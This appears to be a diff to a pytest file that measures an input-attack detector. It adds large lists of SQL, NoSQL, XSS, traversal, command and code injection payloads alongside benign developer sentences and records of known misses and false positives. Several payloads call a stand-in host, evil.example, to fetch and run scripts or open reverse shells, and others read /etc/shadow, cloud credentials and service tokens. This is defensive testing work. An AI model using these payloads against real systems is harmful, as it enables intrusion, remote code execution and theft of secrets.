@@ -217,6 +217,110 @@ ATTACKS = {
         "/var//log/../../etc/passwd", "/etc/.//passwd", "file:/etc/passwd",
         "/proc//self//cmdline",
     ],
+    # (written after the third round's change: 20 of 20 refused)
+    "r3-after-change": [
+        "1' AND ascii(substring(version(),1,1))>52--", "1 or pg_sleep(3)--",
+        "\" onmouseover=\"alert(1)", "<svg onload=confirm`1`>",
+        "<a href=javascript&colon;alert(1)>x</a>",
+        "..\\\\..\\\\..\\\\inetpub\\\\wwwroot\\\\web.config", "/../../../../var/log/auth.log",
+        "; curl -s evil.example/p | sh", "`wget evil.example -O /tmp/x`", "$(nc -lvp 9001)",
+        "|| cat /etc/hosts", "<?php echo file_get_contents('/etc/hosts'); ?>",
+        "${jndi:dns://evil.example/x}",
+        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
+        "'; exec master..xp_dirtree '\\\\evil.example\\x'--", "x' or 1=1 limit 1 offset 0 --",
+        "<body background=\"javascript:alert(1)\">", "file:///etc/hostname",
+        "ping -c 10 127.0.0.1 ; id", "eval(atob('YWxlcnQoMSk='))",
+    ],
+    # (third round, 2026-12-02: the five categories the issue's other
+    # corpora measure, in forms the first two rounds did not write:
+    # stacked, time- and error-based and obfuscated SQL, NoSQL operators,
+    # rarer XSS vectors, wrappers and traversal spellings, command lines
+    # that fetch or spawn, PHP/Java/Node/Python/Ruby code; written and
+    # measured before any change: 132 of 141 refused)
+    "r3-sqli-stacked-time": [
+        "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--",
+        "1); WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)",
+        "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)--", "1;SELECT pg_sleep(5)--",
+        "' OR BENCHMARK(10000000,MD5(1))#", "1 WAITFOR DELAY '00:00:05'",
+        "1 AND 1=(SELECT 1 FROM PG_SLEEP(5))",
+    ],
+    "r3-sqli-error": [
+        "1 AND extractvalue(1,concat(0x7e,version()))",
+        "1 AND updatexml(1,concat(0x7e,user()),1)", "' AND 1=CONVERT(int,@@version)--",
+        "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
+    ],
+    "r3-sqli-union-obf": [
+        "-1 UNION ALL SELECT NULL,NULL,NULL--", "0 union/**/select/**/1,2",
+        "1 UnIoN SeLeCt @@version", "' union select username, password from users--",
+        "1 union(select(1),(2))", "1/*!50000UNION*//*!50000SELECT*/1,2", "1'/**/OR/**/'1'='1",
+        "1 ORDER BY 10--", "1' GROUP BY 1,2,3--+", "admin'--", "admin' #", "admin'/*",
+        "' or ''='", "' || (SELECT banner FROM v$version WHERE rownum=1) || '",
+        "' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)='a", "' AND 1=randomblob(500000000)--",
+        "1 INTO OUTFILE '/var/www/html/x.php'", "1 AND LOAD_FILE('/etc/passwd')",
+    ],
+    "r3-nosql": [
+        "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$regex\": \".*\"}", "'; return '' == '",
+        "{\"$where\": \"sleep(5000)\"}",
+    ],
+    "r3-xss-rare": [
+        "<details open ontoggle=alert(1)>", "<body onpageshow=alert(1)>",
+        "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+        "<form action=javascript:alert(1)><input type=submit>",
+        "javascript:alert(document.domain)", "\"><svg/onload=alert(1)>", "'-alert(1)-'",
+        "</script><script>alert(1)</script>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<base href=\"javascript:/a/-alert(1)///////\">",
+        "<embed src=\"javascript:alert(1)\">", "{{constructor.constructor('alert(1)')()}}",
+        "<x onclick=alert(1)>click", "<marquee onstart=alert(1)>",
+        "<img src=x onerror=alert`1`>", "<svg><script>alert&#40;1&#41;</script>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "data:text/html,<script>alert(1)</script>", "javascript://%0aalert(1)",
+        "\";alert(1);//", "<img src=\"x\"\nonerror=\"alert(1)\">",
+    ],
+    "r3-traversal-more": [
+        "....//....//etc/passwd", "..;/..;/etc/passwd", "..%252f..%252fetc%252fpasswd",
+        "/var/www/../../etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
+        "php://input", "expect://id", "zip://shell.jpg%23payload.php",
+        "phar://uploads/x.jpg/x", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
+        "file:///proc/self/environ", "/proc/self/cmdline", "\\\\?\\C:\\Windows\\win.ini",
+        "\\\\evil.example\\share\\x", "/etc/passwd%00.jpg",
+        "....\\\\....\\\\windows\\\\win.ini", "..%5c..%5cwindows%5cwin.ini",
+        "/.%2e/.%2e/etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/root/.ssh/id_rsa",
+        "~/.aws/credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        "C:/inetpub/wwwroot/web.config", "/etc/shadow",
+    ],
+    "r3-cmdi-more": [
+        "$(id)", "$(curl evil.example|sh)", "cat${IFS}/etc/passwd", ";{cat,/etc/passwd}",
+        "a\nid", "|| ping -c 5 127.0.0.1", "& nslookup evil.example &",
+        ";curl http://evil.example/x.sh | bash", "; wget -O- evil.example | sh", "$(sleep 5)",
+        ";sleep$IFS'5'", ";/bin/sh -c 'id'", "| powershell -enc SQBFAFgA",
+        "& certutil -urlcache -f http://evil.example/x.exe x.exe",
+        ";python -c 'import os;os.system(\"id\")'", ";perl -e 'exec \"/bin/sh\"'",
+        ";nc -e /bin/sh evil.example 4444", ";bash -i >& /dev/tcp/evil.example/4444 0>&1",
+        "c'a't /e't'c/pa's's'wd", "/???/??t /???/p??s??", "\\c\\a\\t /etc/passwd",
+        "echo aWQ= | base64 -d | sh", "|cmd /c whoami", ";%COMSPEC% /c dir",
+        "& ping -n 5 127.0.0.1 &", "x;w",
+    ],
+    "r3-code-more": [
+        "<?php system($_GET['c']); ?>", "<?= `id` ?>", "phpinfo();", "${@phpinfo()}",
+        "eval(base64_decode('aWQ='));", "assert($_POST[x])", "system('id');",
+        "passthru('id')", "shell_exec('id')", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
+        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
+        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+        "${Runtime.getRuntime().exec(\"id\")}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+        "require('child_process').exec('id')",
+        "process.mainModule.require('child_process').execSync('id')",
+        "this.constructor.constructor('return process')()",
+        "{\"__proto__\":{\"admin\":true}}", "__import__('os').system('id')",
+        "().__class__.__bases__[0].__subclasses__()",
+        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "cos\nsystem\n(S'id'\ntR.",
+        "#{`id`}", "Kernel.exec('id')", "%x(id)", "open(F,\"|id\")", "*{7*7}",
+    ],
 }
 
 BENIGN = {
@@ -360,6 +464,96 @@ BENIGN = {
         "../images/team photo.jpg", "web/info.xml", "meta/info.json",
         "../images/logo.png", ".github/workflows/ci.yml",
     ],
+    # (written after the third round's change, to measure it on notes it
+    # was not made from: 36 of 40 passed; "$(5)" passes since)
+    "r3-after-change": [
+        "Remember: array.map() returns a new array",
+        "The exec summary is in the shared drive", "I use os.walk() to list files",
+        "Python's eval() is dangerous, avoid it", "my ~/.bashrc sets the prompt",
+        "look at /etc/fstab to see mounts", "The /proc filesystem is virtual",
+        "JavaScript closures are tricky", "call confirm() before deleting",
+        "the window.open() popup was blocked", "Node's require() caches modules",
+        "include() in PHP templates", "shell_exec() is disabled on our host",
+        "We sleep() between retries in the worker", "benchmark() results attached",
+        "Use document.querySelector in modern code", "The prompt() asks for a name",
+        "Set $PATH before running", "My home is ${HOME} on Linux",
+        "read the /etc/passwd man page (man 5 passwd)",
+        "SQL: the UNION operator merges results", "Order by name asc please",
+        "drop the last column", "Insert the key, then turn", "the process.exit code was 1",
+        "__proto__ vs prototype explained", "What does getRuntime() do?",
+        "The data: scheme embeds files", "javascript: void operator explained",
+        "run make; then make install", "email me; or call", "a|b pipes output",
+        "Use && to chain commands in bash", "The ; ends a statement",
+        "I paid $(5) for coffee", "see C:\\Windows for system files",
+        "phpinfo shows the config", "typeof null is object", "the alert box in the UI",
+        "My password reset link expired",
+    ],
+    # (third round, 2026-12-02: notes of developers, code and commands
+    # named in sentences, written before any change: 72 of 104 passed;
+    # then the rules learned that a name after a plain word is a word of a
+    # sentence (match.word_before_call, xss CODE_BEFORE), that a call with
+    # no argument does nothing, that a module or DOM read is no sink; 90
+    # pass, the rest are listed below)
+    "r3-code-mentions": [
+        "use the system() call carefully", "read process.env in node",
+        "The sleep(5) call pauses five seconds", "$(document).ready(fn)",
+        "Call eval() only on trusted input", "exec() replaces the current process",
+        "the os.system() function is deprecated in favour of subprocess",
+        "In PHP, include() warns and require() fails",
+        "Don't use innerHTML; prefer textContent", "print(len(items))",
+        "console.log(user.name)", "const x = require('lodash')",
+        "SELECT count(*) FROM orders WHERE day = today() is our nightly report",
+        "the alert() dialog blocks the page", "window.location.href = '/home'",
+        "document.getElementById('menu')", "$('#menu').toggle()", "$.ajax({url: '/api'})",
+        "Math.max(a, b)", "setTimeout(refresh, 5000)", "JSON.parse(body)",
+        "fetch('/api/items').then(r => r.json())", "user.save() then redirect",
+        "import subprocess; subprocess.run(['ls'])", "os.path.exists(path)",
+        "open('notes.txt').read()", "Runtime.getRuntime() returns the singleton",
+        "String.format(\"%s\", name)", "printf(\"%d items\\n\", n);",
+        "sprintf(buf, \"%s\", s)",
+    ],
+    "r3-shell-in-docs": [
+        "I set ${HOME} in my profile", "export JAVA_HOME=/usr/lib/jvm/default",
+        "echo ${PATH}", "cd $HOME/projects", "Use $(pwd) to get the current directory",
+        "the output of `uname -r` tells the kernel", "alias ll='ls -la'",
+        "chmod 600 ~/.ssh/id_rsa", "sudo systemctl restart nginx", "ps aux | grep python",
+        "tail -f /var/log/syslog", "cat notes.txt | wc -l", "for f in *.md; do echo $f; done",
+        "crontab -e then add 0 3 * * * backup.sh", "scp file.txt user@host:/tmp/",
+        "rsync -avz src/ dest/", "kill -9 1234 if it hangs",
+        "Set LANG=C.UTF-8 in the environment", "PS1='\\u@\\h:\\w$ '", "nohup ./server &",
+    ],
+    "r3-paths-in-prose": [
+        "What is /etc/passwd for?", "The users live in /etc/passwd and hashes in /etc/shadow",
+        "edit /etc/nginx/nginx.conf and reload", "logs are under /var/log/nginx/access.log",
+        "Put it in C:\\Windows\\Temp for now",
+        "the hosts file is C:\\Windows\\System32\\drivers\\etc\\hosts",
+        "php://stdin reads standard input", "file:///C:/Users/anna/report.html opens locally",
+        "see /proc/meminfo for memory", "keys go to ~/.ssh/authorized_keys",
+        "The web root is /var/www/html", "config in /etc/app/config.yaml",
+        "mount it at /mnt/data", "the socket is /run/docker.sock",
+        "WEB-INF holds web.xml in a WAR", "boot.ini was used by Windows XP",
+    ],
+    "r3-web-prose": [
+        "javascript: the good parts", "My favourite book: JavaScript: The Definitive Guide",
+        "vbscript: is obsolete", "data: URLs can embed images",
+        "The onerror handler logs failures", "onload fires after images load",
+        "use <script defer> for speed", "an <iframe> embeds another page",
+        "<svg> icons scale well", "The <img> tag needs alt text",
+        "style=\"color:red\" is inline CSS", "expression() was an old IE CSS feature",
+        "Use {{ variable }} in Jinja templates", "ERB uses <%= value %> tags",
+        "${name} in Groovy strings", "#{user} in Ruby strings", "the constructor runs first",
+        "__proto__ is deprecated", "__init__ sets up the object", "the __class__ attribute",
+    ],
+    "r3-sql-prose": [
+        "Select * from our menu", "Drop by anytime", "Union Square at noon",
+        "Insert coin to continue", "Update your profile, then delete old photos",
+        "Order by Friday; group by team", "where 1 = 1 in the demo", "having fun or not",
+        "select the union option from the drop-down", "1 or 2 sugars",
+        "Add a foreign key from orders to users",
+        "I love SQL: SELECT name FROM users is my first query", "Is it null or empty?",
+        "Truncate the table name to 10 chars", "Exec summary attached",
+        "the char limit is 255", "join us at 7", "case closed",
+    ],
 }
 # Multi-line YAML is text in a body; in a query value a line break
 # followed by "name: value" is the shape of header injection (refused).
@@ -368,8 +562,52 @@ BENIGN_JSON_ONLY = [
     "anchors: &base\n  a: 1\nchild:\n  <<: *base",
 ]
 
-KNOWN_MISSES = {}
-KNOWN_FALSE_POSITIVES = {}
+KNOWN_MISSES = {
+    "'; return '' == '": "a $where breakout whose statement compares two empty "
+                         "strings: the JavaScript detector wants a name or a chain",
+    "\\\\evil.example\\share\\x": "a UNC path to a foreign host: no rule reads \\\\host",
+    "a\nid": "a line break then a two-letter command: 'id' alone after a newline "
+              "is too short a word to call a command in text",
+    ";%COMSPEC% /c dir": "cmd.exe named by its environment variable: %VAR% is not "
+                         "resolved to a command",
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==": "a base64 Java stream of a HashMap: the "
+                                             "serialized-object rule wants a gadget class",
+    "__import__('os').system('id')": "Python code: no rule knows __import__",
+    "().__class__.__bases__[0].__subclasses__()": "Python's object graph outside a "
+                                                  "template: ssti wants {{ }}",
+    "Kernel.exec('id')": "Ruby's Kernel module: no rule knows it",
+    "%x(id)": "Ruby's %x() command literal: no rule knows it",
+}
+KNOWN_FALSE_POSITIVES = {
+    "SELECT count(*) FROM orders WHERE day = today() is our nightly report":
+        "a real SELECT ... FROM ... WHERE: SQL is SQL wherever it is written",
+    "window.location.href = '/home'": "location is a sink (CRS 941180 counts "
+                                      "window.location itself)",
+    "$('#menu').toggle()": "a quote opened after a call's parenthesis reads as a "
+                           "breakout to the SQL detector",
+    "setTimeout(refresh, 5000)": "a script entry point called as the whole value",
+    "sprintf(buf, \"%s\", s)": "a PHP function as the whole value (CRS 933160 "
+                                "counts even strrev( ))",
+    "export JAVA_HOME=/usr/lib/jvm/default": "an OS directory after '=' reads as a "
+                                             "path parameter",
+    "Use $(pwd) to get the current directory": "a real command substitution: a "
+                                               "shell runs it inside any sentence",
+    "alias ll='ls -la'": "shell syntax: an alias definition is shell code",
+    "tail -f /var/log/syslog": "a command line that reads an OS log: two warnings",
+    "for f in *.md; do echo $f; done": "a shell loop: shell code",
+    "php://stdin reads standard input": "any php:// stream counts (CRS 933140 "
+                                        "counts php://stdout)",
+    "vbscript: is obsolete": "vbscript: takes statements without parentheses: "
+                             "any word may be one",
+    "use <script defer> for speed": "a script tag is a script tag",
+    "Select * from our menu": "SELECT * FROM a name is SQL",
+    "shell_exec() is disabled on our host": "a distinctive PHP name called, even "
+                                            "empty (CRS 933150 counts FOOgzinflate())",
+    "benchmark() results attached": "a SQL delay function as the value's "
+                                    "first word, even with no argument",
+    "javascript: void operator explained": "void after javascript: starts code "
+                                           "to the scheme rule",
+}
 
 
 # A format directive works on the value the application gets: encoded
@@ -390,13 +628,9 @@ def marked(pairs, known):
             for i, (cls, v) in enumerate(pairs)]
 
 
-# (class of each known miss)
-MISS_CLASS = {}
-ATTACK_CASES = marked(cases(ATTACKS, [("encoded-traversal", v) for v in ENCODED_TRAVERSAL]
-                            + [(MISS_CLASS[v], v) for v in KNOWN_MISSES]),
+ATTACK_CASES = marked(cases(ATTACKS, [("encoded-traversal", v) for v in ENCODED_TRAVERSAL]),
                       KNOWN_MISSES)
-BENIGN_CASES = marked(cases(BENIGN, [("file-paths", k) for k in KNOWN_FALSE_POSITIVES]),
-                      KNOWN_FALSE_POSITIVES)
+BENIGN_CASES = marked(cases(BENIGN), KNOWN_FALSE_POSITIVES)
 
 
 @pytest.fixture(scope="module")
